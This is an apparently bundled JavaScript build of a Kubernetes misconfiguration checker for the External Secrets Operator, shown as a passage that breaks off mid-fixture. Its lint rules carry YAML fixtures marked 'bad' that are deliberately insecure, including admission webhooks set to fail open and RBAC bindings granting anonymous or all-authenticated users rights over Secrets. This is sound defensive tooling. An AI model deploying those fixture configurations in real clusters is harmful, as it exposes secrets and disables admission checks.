import { createRequire as __createRequire } from 'node:module'
const require = __createRequire(import.meta.url)
import {
  CONNECTED_KINDS,
  FETCHING_KINDS,
  NAME_LABEL,
  PROVIDERS,
  PUSHING_KINDS,
  admits,
  alternativesOf,
  connectedOf,
  endpointsOf,
  fake_default,
  fake_default2,
  foreignNamespaceIn,
  generatorOf,
  hasValue,
  isHostIn,
  isOnlyFor,
  isOpenToAll,
  isRead,
  isSet,
  isSettled,
  isTestPath,
  isUnconditional,
  isWhole,
  itemsOf,
  keysOf,
  kindsWith,
  matchesEverything,
  namedIn,
  namespaceFacts,
  parseAddress,
  placesOf,
  providerOf,
  reachOf,
  reachOfSelector,
  referencesOf,
  replaceableCredentials,
  specPathOf,
  storedCredentials,
  storesOf,
  targetNamespaces,
  titleOf,
  webhook_default,
  webhook_default2
} from "./chunk-ZMUQFV5H.js";
import {
  holdsCredential,
  isCredentialKey
} from "./chunk-4CJ7H7KI.js";
import {
  ADMISSION_POLICY_KINDS,
  AUDIT_POLICY_KIND,
  AddressSet,
  BINDING_KIND,
  BINDING_KINDS,
  ByNamespace,
  CRD_KIND,
  DEMANDS,
  DIRECTIONS,
  ESO_GROUP,
  ESO_KINDS,
  EVERY_ADDRESS,
  GENERATORS_GROUP,
  LAST_PORT,
  LINK_LOCAL,
  PRIVATE,
  PUBLIC_V4,
  PUBLIC_V6,
  ROLE_KINDS,
  SECRET_ACCESS,
  STORE_KINDS,
  STRANGER,
  WORKLOAD_KINDS,
  accountOf,
  breadthOf,
  builtInAggregation,
  compareVersions,
  compileGoRegexp,
  crdOf,
  decisionOn,
  decisionsOn,
  environmentOf,
  implicitGroups,
  inSameNamespace,
  isHuman,
  isNamedBy,
  isNamespaced,
  isScraped,
  logs,
  nameOfSubject,
  namesGroup,
  namesResource,
  parseImage,
  podOf,
  policyRules,
  portEdges,
  remember,
  resourcePath,
  runsIn,
  servableVersions,
  serviceAccountPath,
  sharesNodeNetwork,
  somePodIn,
  staysInstalled,
  syncAlerts,
  takesPort,
  unservedVersion,
  verbsGiven,
  workloadOf
} from "./chunk-OZ35NTFX.js";
import {
  requirementsOf,
  selects
} from "./chunk-DGQTWVVE.js";
import {
  asLabels,
  asList,
  asMapping,
  asText,
  asTexts,
  isPlaceholder,
  knownText,
  valueAt
} from "./chunk-NNHQXPSF.js";
import {
  DATED
} from "./chunk-QDCK3X2K.js";
import {
  nearest
} from "./chunk-VHWWGLDX.js";
import {
  groupOf,
  nameOf
} from "./chunk-4AX3HMK5.js";

// src/check/admission-demands.ts
function restricted({ id }, unmet = []) {
  switch (id) {
    case "providers":
      return "which providers stores may use";
    case "namespaces":
      return `which namespaces may hold ${unmet.length === 1 ? KINDS[unmet[0]?.[0] ?? ""] : "ExternalSecrets and PushSecrets"}`;
    case "templates":
      return "what the templates of ExternalSecrets may write";
    case "creation-policy":
      return "the creationPolicy of ExternalSecrets";
  }
}
var KINDS = { externalsecrets: "ExternalSecrets", pushsecrets: "PushSecrets" };

// src/check/offer.ts
var safe = (changes) => changes && { safety: "safe", changes };
var unsafe = (question, changes) => changes && { safety: "unsafe", question, changes };
var setting = (path, value) => [{ kind: "field", path, value }];
var without = (path) => [{ kind: "field", path, value: void 0 }];
var REMOVAL = [{ kind: "remove" }];
var generated = (what) => [{ kind: "generate", what }];

// src/check/rule.ts
var defineRule = (rule2) => rule2;

// src/rules/admission-policy-not-enforced.ts
var admission_policy_not_enforced_default = defineRule({
  id: "admission-policy-not-enforced",
  title: "An admission policy for the operator’s objects only watches",
  severities: ["medium"],
  kinds: [...ADMISSION_POLICY_KINDS, BINDING_KIND],
  why: "A policy that audits, warns or runs dry writes a report and lets the object in, and one that nothing binds does not even do that. It looks like protection, and whoever writes a store or an ExternalSecret that it refuses is not stopped.",
  remedy: "Once its reports are clean, enforce it: `validationActions: [Deny]` in the binding or the ValidatingPolicy, `failureAction: Enforce` in a Kyverno rule, `enforcementAction: deny` in a Gatekeeper constraint; and bind a policy that has no binding or constraint.",
  references: [
    "https://kubernetes.io/docs/reference/access-authn-authz/validating-admission-policy/",
    "https://open-policy-agent.github.io/gatekeeper/website/docs/enforcement-points/",
    "https://kyverno.io/docs/"
  ],
  guide: ["AC1", "AC2", "AC3", "AC4"],
  bad: [
    `
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: { name: providers }
spec:
  matchConstraints:
    resourceRules:
      - { apiGroups: [external-secrets.io], apiVersions: ["*"], operations: [CREATE, UPDATE], resources: [secretstores, clustersecretstores] }
  validations:
    - expression: object.spec.provider.all(p, p in ['aws', 'vault'])
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: { name: providers }
spec:
  policyName: providers
  validationActions: [Warn, Audit] # finding: ValidatingAdmissionPolicyBinding providers lets what it refuses through (validationActions Warn, Audit), and no other policy in the set restricts which providers stores may use
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata:
  name: templates # finding: ValidatingAdmissionPolicy templates has no binding in the set
spec:
  matchConstraints:
    resourceRules:
      - { apiGroups: [external-secrets.io], apiVersions: ["*"], operations: ["*"], resources: [externalsecrets] }
  validations:
    - expression: "!has(object.spec.target.template)"
`,
    `
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: external-secrets }
spec: # finding: ClusterPolicy external-secrets lets what it refuses through (failure action Audit), and no other policy in the set restricts the creationPolicy of ExternalSecrets
  rules:
    - name: creation-policy
      match: { any: [{ resources: { kinds: [ExternalSecret] } }] }
      validate:
        pattern: { spec: { target: { creationPolicy: Owner } } }
---
apiVersion: constraints.gatekeeper.sh/v1beta1
kind: EsoNamespaces
metadata: { name: namespaces }
spec:
  enforcementAction: dryrun # finding: EsoNamespaces namespaces lets what it refuses through (enforcement action dryrun)
  match:
    kinds:
      - { apiGroups: [external-secrets.io], kinds: [ExternalSecret, PushSecret] }
---
apiVersion: templates.gatekeeper.sh/v1
kind: ConstraintTemplate
metadata: { name: esonamespaces }
spec:
  crd: { spec: { names: { kind: EsoNamespaces } } }
  targets:
    - target: admission.k8s.gatekeeper.sh
      rego: |
        package esonamespaces
        violation[{"msg": "not here"}] { not startswith(input.review.object.metadata.namespace, "team-") }
`
  ],
  good: [
    `
# One of two bindings denies, and the policy of the other engine meets the same demand.
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: { name: creation-policy }
spec:
  matchConstraints:
    resourceRules:
      - { apiGroups: [external-secrets.io], apiVersions: ["*"], operations: [CREATE], resources: [externalsecrets] }
  validations:
    - expression: object.spec.target.creationPolicy == 'Owner'
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: { name: creation-policy-shop }
spec: { policyName: creation-policy, validationActions: [Audit] }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: { name: creation-policy-system }
spec: { policyName: creation-policy, validationActions: [Deny, Audit] }
---
apiVersion: policies.kyverno.io/v1
kind: ValidatingPolicy
metadata: { name: creation-policy }
spec:
  validationActions: [Audit]
  matchConstraints:
    resourceRules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [externalsecrets] }
  validations:
    - expression: object.spec.target.creationPolicy in ['Owner', 'Orphan']
---
# About other objects.
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: labels }
spec:
  validationFailureAction: Audit
  rules:
    - name: labels
      match: { any: [{ resources: { kinds: [Namespace, Deployment] } }] }
      validate: { pattern: { metadata: { labels: { team: "?*" } } } }
`
  ],
  *check(manifest, { admission }) {
    const lax = DEMANDS.flatMap(
      (demand) => admission.idle(demand).flatMap(({ laxity }) => laxity?.manifest === manifest ? { ...laxity, demand } : [])
    );
    for (const found of Map.groupBy(lax, ({ path }) => JSON.stringify(path)).values()) {
      const [first] = found;
      const demands = [...new Set(found.map(({ demand }) => restricted(demand)))];
      if (first)
        yield {
          path: first.path,
          message: `${nameOf(manifest)} ${first.says}, and no other policy in the set restricts ${demands.join(", ")}`
        };
    }
  },
  fix({ path }) {
    const value = ENFORCING[String(path.at(-1))];
    return value === void 0 ? void 0 : unsafe(REFUSED, setting(path, value));
  }
});
var ENFORCING = {
  validationActions: ["Deny"],
  enforcementAction: "deny",
  validationFailureAction: "Enforce",
  failureAction: "Enforce",
  admission: true,
  enabled: true
};
var REFUSED = "Do the policy's reports show no violation any more? What violates it is refused from then on.";

// src/check/chart-values.ts
function chartValues({ manifest, install, world }, values, since) {
  const subject = manifest ?? workloadOf(install);
  const made = world.eso.installs.find((candidate) => isMadeWith(candidate, subject));
  if (!made || since !== void 0 && made.version !== void 0 && compareVersions(made.version, since) < 0)
    return void 0;
  const [first, ...others] = Object.entries(values).map(([key, value]) => ({
    kind: "value",
    key: key.split("."),
    value
  }));
  return first && [first, ...others];
}
var CHART_KEYS = {
  controller: "",
  webhook: "webhook.",
  "cert-controller": "certController."
};
function isMadeWith(install, subject) {
  const workload = workloadOf(install);
  const chart = workload && chartOf(workload);
  return chart !== void 0 && subject !== void 0 && chartOf(subject) === chart;
}
function chartOf({ release, template }) {
  const end = template?.lastIndexOf("/templates/") ?? -1;
  return release && end > 0 ? `${release.name} ${template?.slice(0, end)}` : void 0;
}

// src/rules/admission-webhook-fails-open.ts
var admission_webhook_fails_open_default = defineRule({
  id: "admission-webhook-fails-open",
  title: "The operator's admission webhook lets objects in unchecked",
  severities: ["high"],
  kinds: ["admissionregistration.k8s.io/ValidatingWebhookConfiguration"],
  why: "The webhook refuses stores and ExternalSecrets that are not valid, such as a reference into a foreign namespace. With `failurePolicy: Ignore` whoever can keep it from answering gets past it, and without a webhook everybody does.",
  remedy: "Keep `webhook.create: true` and `webhook.failurePolicy: Fail` in the operator chart, and run the webhook with two replicas and a disruption budget so that it answers.",
  references: [
    "https://kubernetes.io/docs/reference/access-authn-authz/extensible-admission-controllers/#failure-policy",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["AC1"],
  bad: [
    `
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secretstores] }
    failurePolicy: Ignore # finding: validate.secretstore.external-secrets.io lets secretstores in unchecked while it does not answer
  - name: validate.clustersecretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [clustersecretstores] }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: externalsecret-validate }
webhooks:
  - name: validate.externalsecret.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [externalsecrets] }
    failurePolicy: Ignore # finding: validate.externalsecret.external-secrets.io lets externalsecrets in unchecked
`,
    `
# finding: External Secrets Operator in namespace eso has no admission webhook
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v2.9.0" }
---
# Somebody else's webhook judges other kinds.
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: certificates }
webhooks:
  - name: certificates.example.com
    rules:
      - { apiGroups: [cert-manager.io], apiVersions: [v1], operations: [CREATE], resources: [certificates] }
    failurePolicy: Ignore
`
  ],
  good: [
    `
# Fail is also what Kubernetes takes where nothing is said.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [secretstores] }
  - name: validate.externalsecret.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [externalsecrets] }
    failurePolicy: Fail
  - name: validate.clustersecretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [clustersecretstores] }
    failurePolicy: "\${FAILURE_POLICY}"
`,
    `
# The webhook runs; what registers it is not part of this set.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: webhook, image: "registry.example.com/external-secrets:v2.9.0", args: [webhook, --port=10250] }
`,
    `
# Without a controller there is no install to judge.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-certs, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: certs, image: "registry.example.com/external-secrets:v2.9.0", args: [certcontroller] }
`
  ],
  *check(manifest, { eso }) {
    for (const entry of eso.webhooks) {
      if (entry.manifest !== manifest || entry.failurePolicy !== "Ignore") continue;
      yield {
        path: [...entry.path, "failurePolicy"],
        message: `${entry.name || "the webhook"} lets ${entry.resources.join(", ") || "objects"} in unchecked while it does not answer`
      };
    }
  },
  *checkInstall({ controller, components, namespace, release }, { eso }) {
    if (!controller || eso.webhooks.length > 0 || components.some(({ role }) => role === "webhook")) return;
    const where = namespace === void 0 ? "" : ` in namespace ${namespace}`;
    yield {
      object: null,
      path: [],
      discriminator: `${release ?? ""}/${namespace ?? ""}`,
      message: `External Secrets Operator${where} has no admission webhook, so that stores and ExternalSecrets are written unchecked`
    };
  },
  fix(fault) {
    const replicas = isAlone(fault) ? { "webhook.replicaCount": 2 } : {};
    if (!fault.manifest) return unsafe(REACHABLE, chartValues(fault, { "webhook.create": true, ...replicas }));
    return unsafe(
      REACHABLE,
      fault.manifest.template === void 0 ? setting(fault.path, "Fail") : chartValues(fault, { "webhook.failurePolicy": "Fail", ...replicas })
    );
  }
});
var isAlone = ({ world }) => world.eso.installs.flatMap(({ components }) => components.filter(({ role }) => role === "webhook")).every(({ pod }) => (pod.manifest.get("spec", "replicas") ?? 1) === 1);
var REACHABLE = "Can the API server always reach the webhook? While it cannot, stores and ExternalSecrets are not written.";

// src/rules/auth-delegator-binding.ts
var auth_delegator_binding_default = defineRule({
  id: "auth-delegator-binding",
  title: "The operator may ask the API server about everybody’s tokens and rights",
  severities: ["medium"],
  kinds: ["rbac.authorization.k8s.io/ClusterRoleBinding"],
  why: "With `system:auth-delegator` whoever takes over the pod can ask whether a token that was found is good, whose it is, and what anybody may do: a map for the next step. The operator needs it only where a provider checks tokens in its name.",
  remedy: "Set `systemAuthDelegator: false` in the operator chart. Where Vault checks tokens with those it is given, let it have a token reviewer of its own, and ask whoever runs it.",
  references: [
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#other-component-roles",
    "https://developer.hashicorp.com/vault/docs/auth/kubernetes",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"
  ],
  guide: ["RM6"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-auth-delegator }
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: system:auth-delegator # finding: ServiceAccount eso/external-secrets of the operator can check everybody's tokens and ask for everybody's rights
subjects:
  - { kind: ServiceAccount, name: external-secrets, namespace: eso }
  - { kind: ServiceAccount, name: vault-reviewer, namespace: vault }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: vault-auth-delegator }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: system:auth-delegator }
subjects:
  - { kind: ServiceAccount, name: vault-reviewer, namespace: vault }
---
# Both requests are cluster-scoped, so that a binding in a namespace gives nothing.
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-auth-delegator, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: system:auth-delegator }
subjects:
  - { kind: ServiceAccount, name: external-secrets, namespace: eso }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *check(binding, { rbac, eso }) {
    const own = rbac.grantsOfClusterRole("system:auth-delegator").filter((grant) => grant.binding === binding && eso.isOwn(grant.subject));
    if (own.length === 0) return;
    yield {
      path: ["roleRef", "name"],
      message: `${own.map(({ subject }) => nameOfSubject(subject)).join(", ")} of the operator can check everybody's tokens and ask for everybody's rights`
    };
  },
  fix: (fault) => unsafe(
    REVIEWER,
    fault.manifest?.template === void 0 ? REMOVAL : chartValues(fault, { systemAuthDelegator: false }, "0.20.1")
  )
});
var REVIEWER = "Does a provider check tokens with the operator's own, such as Vault without a token reviewer? It needs one of its own first.";

// src/model/rbac/built-in-roles.ts
function builtInRules(clusterRole) {
  if (clusterRole === "cluster-admin") return CLUSTER_ADMIN;
  if (clusterRole === "edit") return EDIT;
  return clusterRole === "admin" ? ADMIN : [];
}
var BUILT_IN_ROLES = ["cluster-admin", "admin", "edit", "view"];
var builtInRolesTakenBy = (roles) => {
  const selectors = roles.filter(({ kind }) => kind === "ClusterRole").flatMap((role) => asList(role.get("aggregationRule", "clusterRoleSelectors")));
  return BUILT_IN_ROLES.filter((name) => selectors.some((selector) => selects(selector, labelsOf(name))));
};
var labelsOf = (name) => ({
  "kubernetes.io/bootstrapping": "rbac-defaults",
  ...name === "cluster-admin" ? {} : { [`rbac.authorization.k8s.io/aggregate-to-${name}`]: "true" }
});
var READ = ["get", "list", "watch"];
var WRITE = ["create", "delete", "deletecollection", "patch", "update"];
var rule = (apiGroups, resources, verbs) => ({
  path: [],
  apiGroups,
  resources,
  verbs,
  resourceNames: []
});
var CLUSTER_ADMIN = [rule(["*"], ["*"], ["*"])];
var EDIT = [
  rule([""], ["pods", "pods/attach", "pods/exec", "pods/portforward", "pods/proxy", "secrets"], [...READ, ...WRITE]),
  rule([""], ["configmaps", "events", "serviceaccounts", "services"], [...READ, ...WRITE]),
  rule([""], ["serviceaccounts"], ["impersonate"]),
  rule([""], ["serviceaccounts/token"], ["create"]),
  rule(["apps"], ["daemonsets", "deployments", "replicasets", "statefulsets"], [...READ, ...WRITE]),
  rule(["batch"], ["cronjobs", "jobs"], [...READ, ...WRITE]),
  rule(["networking.k8s.io"], ["ingresses", "networkpolicies"], [...READ, ...WRITE])
];
var ADMIN = [...EDIT, rule(["rbac.authorization.k8s.io"], ["rolebindings", "roles"], [...READ, ...WRITE])];

// src/model/rbac/rights.ts
function rightsBy(binding, rbac) {
  const name = builtInRoleOf(binding, rbac);
  return name === void 0 ? rbac.boundRoles(binding).flatMap((role) => rightsOfRole(role, rbac)) : builtInRights(rbac).get(name) ?? [];
}
function builtInRoleOf(binding, rbac) {
  if (binding.get("roleRef", "kind") !== "ClusterRole" || rbac.boundRoles(binding).length > 0) return void 0;
  const name = asText(binding.get("roleRef", "name")) ?? "";
  return BUILT_IN_ROLES.find((known) => known === name);
}
var builtInRights = remember(
  (rbac) => new Map(BUILT_IN_ROLES.map((name) => [name, rightsOfBuiltIn(name, rbac)]))
);
function rightsOfBuiltIn(name, rbac) {
  const names = /* @__PURE__ */ new Set([name]);
  const parts = /* @__PURE__ */ new Set();
  for (const next of names)
    for (const role of rbac.roles.filter((one) => builtInAggregation(one).some(({ roles }) => roles.includes(next)))) {
      const taken = [role, ...rbac.aggregatedBy(role)];
      for (const part of taken) parts.add(part);
      for (const other of builtInRolesTakenBy(taken)) names.add(other);
    }
  return [
    ...[...names].flatMap(builtInRules).map((rule2) => ({ rule: rule2, role: void 0, through: void 0 })),
    ...[...parts].flatMap((part) => rulesOf(part, `ClusterRole ${name}`))
  ];
}
function rightsOfRole(role, rbac) {
  const aggregated = rbac.aggregatedBy(role);
  const through = nameOf(role);
  const builtIn = builtInRolesTakenBy([role, ...aggregated]).flatMap((name) => builtInRights(rbac).get(name) ?? []);
  return [
    ...rulesOf(role, void 0),
    ...aggregated.flatMap((one) => rulesOf(one, through)),
    ...builtIn.map((right) => ({ ...right, through }))
  ];
}
var rulesOf = (role, through) => policyRules(role).map((rule2) => ({ rule: rule2, role, through }));
function rightsOf(subject, rbac) {
  const grants = [subject, ...implicitGroups(subject)].flatMap((holder) => rbac.grantsTo(holder));
  return grants.flatMap((grant) => rightsBy(grant.binding, rbac).map((right) => ({ ...right, grant })));
}
var hasEverywhere = (subject, access, rbac) => rightsOf(subject, rbac).some(
  ({ grant, rule: rule2 }) => grant.namespace === void 0 && rule2.resourceNames.length === 0 && verbsGiven(rule2, access).length > 0
);
function whoCan(access, namespace, rbac) {
  const held = heldBy(access, rbac);
  return [...held.get(void 0) ?? [], ...namespace === void 0 ? [] : held.get(namespace) ?? []];
}
var whoCanSomewhere = (access, rbac) => [...heldBy(access, rbac).values()].flat();
var accesses = remember((_) => /* @__PURE__ */ new Map());
function heldBy(access, rbac) {
  const key = JSON.stringify(access);
  const known = accesses(rbac).get(key);
  if (known) return known;
  const held = rbac.bindings.flatMap((binding) => {
    const rights = rightsBy(binding, rbac).filter(({ rule: rule2 }) => verbsGiven(rule2, access).length > 0);
    return rbac.grantsIn(binding).flatMap((grant) => rights.map((right) => ({ ...right, grant })));
  });
  const found = Map.groupBy(held, ({ grant }) => grant.namespace);
  accesses(rbac).set(key, found);
  return found;
}
function verbsOfAnyName(rights, access) {
  const given = new Set(rights.flatMap(({ rule: rule2 }) => rule2.resourceNames.length === 0 ? verbsGiven(rule2, access) : []));
  return access.verbs.filter((verb) => given.has(verb));
}

// src/check/held.ts
function rulesBehind(rights, message) {
  const seen = /* @__PURE__ */ new Set();
  return rights.flatMap(({ role, rule: rule2 }) => {
    const key = role ? `${nameOf(role)} ${JSON.stringify(rule2.path)}` : "";
    if (!role || seen.has(key)) return [];
    seen.add(key);
    return [{ manifest: role, path: rule2.path, message }];
  });
}
function boundRoleName(binding, rbac) {
  const builtIn = builtInRoleOf(binding, rbac);
  if (builtIn !== void 0) return `the built-in role ${builtIn}`;
  return `${asText(binding.get("roleRef", "kind")) ?? "role"} ${asText(binding.get("roleRef", "name")) ?? ""}`;
}

// src/check/role-changes.ts
function withoutSubject({ manifest, path }) {
  if (!manifest || path.length !== 2) return void 0;
  return asList(manifest.get("subjects")).length > 1 ? without(path) : REMOVAL;
}
function withoutVerb({ manifest, path }) {
  if (!manifest || path.length !== 4) return void 0;
  return asList(manifest.get(...path.slice(0, 3))).length > 1 ? without(path) : without(path.slice(0, 2));
}
var READS = ["get", "list", "watch"];
function withoutWrites({ manifest, path }, isWritten) {
  const rule2 = manifest && path[0] === "rules" ? policyRules(manifest)[Number(path[1])] : void 0;
  if (!rule2 || rule2.resources.some((resource) => resource.includes("*"))) return void 0;
  const others = rule2.resources.filter((resource) => !isWritten(resource.split("/")[0] ?? ""));
  if (others.length === rule2.resources.length) return void 0;
  if (others.length > 0) return setting([...rule2.path, "resources"], others);
  const reads = READS.filter((verb) => rule2.verbs.includes(verb) || rule2.verbs.includes("*"));
  return reads.length > 0 ? setting([...rule2.path, "verbs"], reads) : without(rule2.path);
}
var LABEL_KEYS = {
  "rbac.authorization.k8s.io/aggregate-to-view": ["rbac.aggregateToView", "0.16.2"],
  "rbac.authorization.k8s.io/aggregate-to-edit": ["rbac.aggregateToEdit", "0.16.2"],
  "rbac.authorization.k8s.io/aggregate-to-admin": ["rbac.aggregateToAdmin", "2.8.0"]
};
function withoutLabels(fault) {
  return Object.values(LABEL_KEYS).flatMap(([key, since]) => chartValues(fault, { [key]: false }, since) ?? []);
}
var LOOKING = "rbac.aggregateToView";
function withoutAggregation(fault) {
  const [first, , label] = fault.path;
  const [key, since] = LABEL_KEYS[String(label)] ?? [];
  if (first !== "metadata" || key === void 0) return void 0;
  if (!fault.manifest) return void 0;
  if (fault.manifest.template === void 0)
    return key === LOOKING || fault.world.eso.isOwnPart(fault.manifest) ? without(fault.path) : void 0;
  const values = { [key]: false };
  return chartValues(fault, values, since);
}

// src/check/scope.ts
var holdsEso = (world) => world.has("install") || world.has("stores") || KINDS2.some((kind) => world.of(kind).length > 0);
var KINDS2 = ["ExternalSecret", "ClusterExternalSecret", "PushSecret", "ClusterPushSecret"].map(
  (kind) => `${ESO_GROUP}/${kind}`
);
function isInScope(subject, world) {
  if (isUnknown(subject) || world.isOperator(subject) && !world.eso.isOwn(subject)) return false;
  return world.eso.isInScope(subject) || subject.kind !== "ServiceAccount" && world.eso.namesOurGroups(subject);
}
var inScope = (grants, world) => grants.filter(({ subject }) => isInScope(subject, world));
var isUnknown = ({ name, namespace }) => isPlaceholder(name) || isPlaceholder(namespace);

// src/model/rbac/eso-resources.ts
var EXTERNAL_SECRETS = { resource: "externalsecrets", plural: "ExternalSecrets" };
var CLUSTER_SCOPED = [
  { resource: "clustersecretstores", plural: "ClusterSecretStores" },
  { resource: "clusterexternalsecrets", plural: "ClusterExternalSecrets" },
  { resource: "clusterpushsecrets", plural: "ClusterPushSecrets" },
  { group: GENERATORS_GROUP, resource: "clustergenerators", plural: "ClusterGenerators" }
];
var GENERATORS = [
  "acraccesstokens",
  "beyondtrustworkloadcredentialsdynamicsecrets",
  "cloudsmithaccesstokens",
  "ecrauthorizationtokens",
  "fakes",
  "gcraccesstokens",
  "githubaccesstokens",
  "gitlabdeploytokens",
  "grafanas",
  "mfas",
  "passwords",
  "quayaccesstokens",
  "sshkeys",
  "stssessiontokens",
  "uuids",
  "vaultdynamicsecrets",
  "webhooks"
].map((resource) => ({ group: GENERATORS_GROUP, resource, plural: "generators" }));
var ESO_RESOURCES = [
  EXTERNAL_SECRETS,
  { resource: "secretstores", plural: "SecretStores" },
  { resource: "pushsecrets", plural: "PushSecrets" },
  ...CLUSTER_SCOPED,
  ...GENERATORS
];
var groupOfResource = ({ group = ESO_GROUP }) => group;

// src/rules/broad-subject-binding.ts
var broad_subject_binding_default = defineRule({
  id: "broad-subject-binding",
  title: "Nobody in particular holds rights on Secrets or on the operator's kinds",
  severities: ["critical", "high", "medium"],
  kinds: BINDING_KINDS,
  why: "These subjects stand for everybody: all who can reach the API server, all who can log in, or every pod that names no ServiceAccount of its own. Any of them reads the Secrets, or writes what the operator obeys.",
  remedy: "Bind the role to the one ServiceAccount or Group that needs it. Where it is the operator itself that runs as `default`, set `serviceAccount.create: true` in its chart.",
  references: [
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#least-privilege",
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#service-account-permissions"
  ],
  guide: ["RM4", "RM6"],
  supersedes: ["human-secret-access", "operator-namespace-access"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: secret-writer }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: secret-writer }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secret-writer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:authenticated" } # finding: Group system:authenticated (everybody who can log in) can write ExternalSecrets in all namespaces through ClusterRole secret-writer
  - { apiGroup: rbac.authorization.k8s.io, kind: User, name: "system:anonymous" } # finding: (everybody who reaches the API server, without a login)
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
---
# In one namespace: all ServiceAccounts of the cluster, or those of the namespace.
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: secret-writer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secret-writer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:serviceaccounts" } # finding: Group system:serviceaccounts (every pod of the cluster) can write ExternalSecrets in namespace shop
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:serviceaccounts:shop" } # finding[high]: Group system:serviceaccounts:shop (every pod of one namespace)
  - { kind: ServiceAccount, name: default } # finding[high]: ServiceAccount shop/default (every pod of its namespace that names no other)
`,
    `
# Secrets, by a built-in role. Reading the operator's kinds gives templates and inline values away.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault }, target: { name: db } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: jobs }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { kind: ServiceAccount, name: default, namespace: shop } # finding: can get, list, watch, create, update, patch, delete Secrets in all namespaces through the built-in role edit
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: viewer, labels: { rbac.authorization.k8s.io/aggregate-to-view: "true" } }
rules:
  - apiGroups: [external-secrets.io]
    resources: [secretstores, externalsecrets]
    verbs: [get, list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: all-see }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view }
subjects:
